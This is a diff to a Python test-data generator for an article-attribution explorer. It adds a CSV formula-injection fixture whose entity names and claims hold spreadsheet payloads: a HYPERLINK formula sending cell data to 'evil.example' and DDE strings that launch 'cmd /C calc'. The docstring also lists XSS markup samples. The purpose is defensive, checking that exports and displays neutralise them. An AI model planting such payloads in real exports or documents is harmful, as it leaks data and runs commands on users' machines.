@@ -7,9 +7,11 @@ string indices are Unicode scalars, the format's unit) rather than counted by ha
                         Tests/AttributedAPITests/IndicatorTests.swift, derived there claim by claim);
   hostile-strings.json  an article whose headline, summary, body, entity names and cues hold markup and script
                         (`<script>`, `"><img src=x onerror=...>`, `</textarea>`, `javascript:` URLs): the explorer
-                        must show them as text.
+                        must show them as text;
+  formula-injection.json  texts beginning with `=`, `+`, `-`, `@`, tab or CR, with commas, quotes and line breaks:
+                        a CSV export must neutralise and quote them.
 
-Usage: Tests/Datasets/make_datasets.py   (rewrites both files beside this script)
+Usage: Tests/Datasets/make_datasets.py   (rewrites the three files beside this script)
 """
 import json
 import pathlib
@@ -161,6 +163,39 @@ def hostile_strings():
             "articles": [record], "entities": entities, "claims": claims}
 
 
-for name, dataset in [("indicators.json", indicators()), ("hostile-strings.json", hostile_strings())]:
+def formula_injection():
+    """Cells a spreadsheet would run as formulas (OWASP CSV injection): every text a CSV export writes begins with
+    one of `=`, `+`, `-`, `@`, tab or CR somewhere here, and some hold commas, quotes and line breaks (RFC 4180
+    quoting)."""
+    entities = [
+        entity("ledger", "publication", "named", name="=HYPERLINK(\"http://evil.example/?\"&A1,\"Ledger\")",
+               aliases=["+Ledger", "@Ledger"]),
+        entity("insider", "person", "anonymous", descriptor="-an insider, \"close\" to the board", reason="@fear"),
+        entity("clerk", "person", "named", name="@SUM(1+1)*cmd|' /C calc'!A0", descriptor="\tclerk"),
+    ]
+    record = article("formulas", "ledger", "=1+1 Ledger headline", (
+        "The insider said =cmd|' /C calc'!A0 was filed. The clerk wrote +3-2 in the margin, \"as usual\". "
+        "A note reads -2+5 @once\nand then a second line."), summary=["@summary, with a comma"])
+    record["byline"] = "+byline"
+    body = record["body"]
+    claims = [
+        claim("f1", record, "=cmd|' /C calc'!A0 was filed", "=proposition", [
+            link("ledger"),
+            link("insider", "indirect_speech", "CT+", "said", body, derivation="paraphrase")]),
+        claim("f2", record, "+3-2 in the margin, \"as usual\"", "+proposition", [
+            link("ledger"),
+            link("clerk", "direct_quote", "CT+", "wrote", body, derivation="quotation")]),
+        claim("f3", record, "-2+5 @once\nand then a second line", "-proposition", [link("ledger")]),
+    ]
+    claims[0]["text"] = "\tTabbed text"
+    claims[1]["text"] = "\rCarriage text"
+    claims[2]["text"] = "@at text, \"quoted\""
+    return {"format": "attributed-dataset/1",
+            "notes": "Built by Tests/Datasets/make_datasets.py. Formula injection: cells beginning with = + - @ tab CR.",
+            "articles": [record], "entities": entities, "claims": claims}
+
+
+for name, dataset in [("indicators.json", indicators()), ("hostile-strings.json", hostile_strings()),
+                      ("formula-injection.json", formula_injection())]:
     (HERE / name).write_text(json.dumps(dataset, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
     print(f"wrote {HERE / name}")
